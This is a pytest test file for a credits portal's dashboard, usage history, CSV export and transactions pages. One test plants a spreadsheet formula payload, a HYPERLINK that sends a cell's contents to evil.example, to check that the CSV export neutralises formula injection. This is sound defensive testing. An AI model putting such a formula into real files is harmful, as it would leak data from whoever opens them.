"""The dashboard, usage history (and CSV), transactions: pages a member reads."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from portal.credits import service
from portal.money import MICRO, format_credits, micros_to_decimal
from portal.timeutil import utcnow
from tests.conftest import credits


@pytest.fixture
def member_org(make_org, make_user, make_price, auth):
    """An organization with usage in two categories, and its member logged in."""
    make_price("seedream_text_to_image", 5, category="Image Generation")
    make_price("generate_voice", "0.5", category="AI Voice", unit="call")
    org = make_org(balance=100, slug="acme")
    make_user("member@example.com", org=org, role="member")
    auth.login("member@example.com")
    return org


def spend(org, key: str, quantity: str = "1", **extra):
    return service.deduct(org.organization, service.Spend(key, credits(quantity), **extra))


def test_dashboard_shows_balance_usage_chart_and_top_features(client, member_org):
    spend(member_org, "seedream_text_to_image", "2")
    spend(member_org, "generate_voice", "3")
    page = client.get("/dashboard").get_data(as_text=True)
    used = credits(10) + credits("1.5")
    assert format_credits(credits(100) - used) in page
    assert re.search(r'data-testid="used-this-month">.*?' + re.escape(format_credits(used)), page)
    assert 'data-testid="usage-chart"' in page
    assert page.count("<rect") == 2  # one bar today, two category segments
    assert "Image Generation" in page and "AI Voice" in page
    top = page.split('data-testid="top-features"')[1]
    assert top.index("seedream_text_to_image") < top.index("generate_voice")


def test_dashboard_empty_state_without_usage(client, member_org):
    page = client.get("/dashboard").get_data(as_text=True)
    assert "No usage in this period" in page


@pytest.mark.parametrize("days", [7, 30, 90])
def test_chart_range_switch_returns_partial(client, member_org, days):
    spend(member_org, "seedream_text_to_image")
    response = client.get(f"/dashboard/chart?days={days}", headers={"HX-Request": "true"})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "<html" not in page
    assert f"last {days} days" in page
    assert page.count('hx-get="/dashboard/chart?days=') == 3
    assert 'href="/dashboard?days=7"' in page  # plain links work without JavaScript


def test_chart_counts_backdated_days_once(client, member_org):
    for quantity in ("1", "2"):
        spend(member_org, "seedream_text_to_image", quantity)
    # Fold into the rollup, then make more usage: nothing may be counted twice.
    client.get("/dashboard")
    spend(member_org, "seedream_text_to_image", "4")
    page = client.get("/dashboard").get_data(as_text=True)
    assert re.search(
        r'data-testid="used-this-month">.*?' + re.escape(format_credits(credits(35))), page
    )


def test_low_balance_banner(client, app, member_org):
    app.config["PORTAL_LOW_BALANCE_THRESHOLD"] = "96"
    assert "Low balance" not in client.get("/dashboard").get_data(as_text=True)
    spend(member_org, "seedream_text_to_image")
    assert "Low balance" in client.get("/dashboard").get_data(as_text=True)


def test_usage_table_filters_and_pagination(client, member_org, monkeypatch):
    monkeypatch.setattr("portal.dashboard.views.PAGE_SIZE", 2)
    ids = [spend(member_org, "generate_voice", str(i)).deduction_id for i in (1, 2, 3)]
    spend(member_org, "seedream_text_to_image")
    page = client.get("/usage?feature=generate_voice").get_data(as_text=True)
    assert page.count("<code>generate_voice</code>") == 2
    assert "seedream_text_to_image</code>" not in page
    older = re.search(r'href="([^"]+)" rel="next"', page).group(1).replace("&amp;", "&")
    assert "before=" in older and "feature=generate_voice" in older
    rest = client.get(older).get_data(as_text=True)
    assert rest.count("<code>generate_voice</code>") == 1 and 'rel="next"' not in rest
    assert f"before={ids[0]}" not in rest  # positions are opaque tokens, not bare ids
    damaged = client.get("/usage?feature=generate_voice&before=bad").get_data(as_text=True)
    assert damaged.count("<code>generate_voice</code>") == 2  # starts from the newest


def test_usage_filters_by_category_department_and_dates(client, member_org):
    service.set_department_limit(member_org.id, "Research", None)
    spend(member_org, "generate_voice", department="Research")
    spend(member_org, "seedream_text_to_image")
    by_dept = client.get("/usage?department=Research").get_data(as_text=True)
    assert "generate_voice" in by_dept.split("<tbody>")[1]
    assert "seedream_text_to_image</code>" not in by_dept
    by_cat = client.get("/usage?category=Image+Generation").get_data(as_text=True)
    assert "seedream_text_to_image</code>" in by_cat and "<code>generate_voice" not in by_cat
    yesterday = (utcnow() - timedelta(days=1)).date().isoformat()
    none = client.get(f"/usage?start=2000-01-01&end={yesterday}").get_data(as_text=True)
    assert "No usage found" in none


@pytest.mark.parametrize("path", ["/usage", "/usage.csv"])
@pytest.mark.parametrize(
    "query", ["start=2026-13-01", "end=yesterday", "start=2026-05-02&end=2026-05-01"]
)
def test_usage_rejects_bad_filters(client, member_org, query, path):
    response = client.get(f"{path}?{query}")
    assert response.status_code == 422
    assert 'class="error"' in response.get_data(as_text=True)


def test_usage_csv_streams_every_row_with_exact_amounts(client, member_org, monkeypatch):
    monkeypatch.setattr("portal.dashboard.export.BATCH", 2)
    made = [spend(member_org, "generate_voice", q) for q in ("1", "0.333333", "2", "5")]
    response = client.get("/usage.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.is_streamed
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [int(row["id"]) for row in rows] == [d.deduction_id for d in reversed(made)]
    expected = [str(micros_to_decimal(d.credits_deducted)) for d in reversed(made)]
    assert [row["credits"] for row in rows] == expected


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_usage_csv_defuses_formulas_in_text_cells(client, member_org, prefix):
    """A spreadsheet runs a cell that starts with = + - @ (tab and CR too): quote it as text."""
    service.set_department_limit(member_org.id, "Ops", None)
    payload = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    spend(member_org, "generate_voice", "2", user_ref=payload, description=payload)
    spend(member_org, "generate_voice", "1", user_ref="plain", department="Ops")
    rows = list(csv.DictReader(io.StringIO(client.get("/usage.csv").get_data(as_text=True))))
    assert (rows[1]["user"], rows[1]["description"]) == ("'" + payload, "'" + payload)
    # Untouched: text that is safe already, and the amounts (numbers are never escaped).
    assert (rows[0]["user"], rows[0]["department"], rows[0]["feature_key"]) == (
        "plain",
        "Ops",
        "generate_voice",
    )
    assert [(row["quantity"], row["credits"]) for row in rows] == [("1", "0.5"), ("2", "1")]


def test_csv_cells_escape_text_only():
    from portal.dashboard.export import defused

    assert defused("-5") == "'-5"  # as *text* it could still be the start of a formula
    assert defused("a=b") == "a=b" and defused("") == ""


def test_transactions_show_every_kind_with_balance_after(client, member_org):
    deduction = spend(member_org, "seedream_text_to_image")
    service.refund(member_org.organization, deduction.deduction_id, credits(2), "partial")
    page = client.get("/transactions").get_data(as_text=True)
    for kind in ("grant", "deduct", "refund"):
        assert f"badge-{kind}" in page
    balances = [format_credits(b) for b in (credits(100), credits(95), credits(97))]
    for balance in balances:
        assert balance in page


def test_pages_need_login(client):
    for path in ("/dashboard", "/usage", "/usage.csv", "/transactions", "/dashboard/chart"):
        response = client.get(path)
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_home_redirects(client, member_org):
    assert client.get("/").headers["Location"] == "/dashboard"


def test_listings_put_imported_history_where_it_happened(client, member_org):
    recent = spend(member_org, "generate_voice")
    service.import_history(
        member_org.id,
        [
            service.HistoricEntry(
                "deduct",
                -credits(7),
                utcnow() - timedelta(days=40),
                feature_key="seedream_text_to_image",
                unit_price=credits(7),
                quantity=MICRO,
            )
        ],
    )
    rows = client.get("/transactions").get_data(as_text=True).split("<tbody>")[1]
    # The import has the larger id but is older: it is listed after the recent deduction.
    assert rows.index("generate_voice") < rows.index("seedream_text_to_image")
    assert recent.deduction_id


def test_imported_history_lands_on_its_own_day(client, member_org):
    ten_days_ago = utcnow() - timedelta(days=10)
    service.import_history(
        member_org.id,
        [
            service.HistoricEntry(
                "deduct",
                -credits(7),
                ten_days_ago,
                feature_key="seedream_text_to_image",
                unit_price=credits(7),
                quantity=MICRO,
            )
        ],
    )
    week = client.get("/dashboard/chart?days=7").get_data(as_text=True)
    month = client.get("/dashboard/chart?days=30").get_data(as_text=True)
    assert "No usage in this period" in week
    assert f"{ten_days_ago.date().isoformat()} · Image Generation: 7 credits" in month


def test_htmx_request_after_logout_is_told_to_navigate(client):
    response = client.get(
        "/dashboard/chart?days=7",
        headers={"HX-Request": "true", "HX-Current-URL": "http://localhost/dashboard?days=7"},
    )
    assert response.status_code == 204
    assert response.headers["HX-Redirect"] == "/login?next=/dashboard?days%3D7"
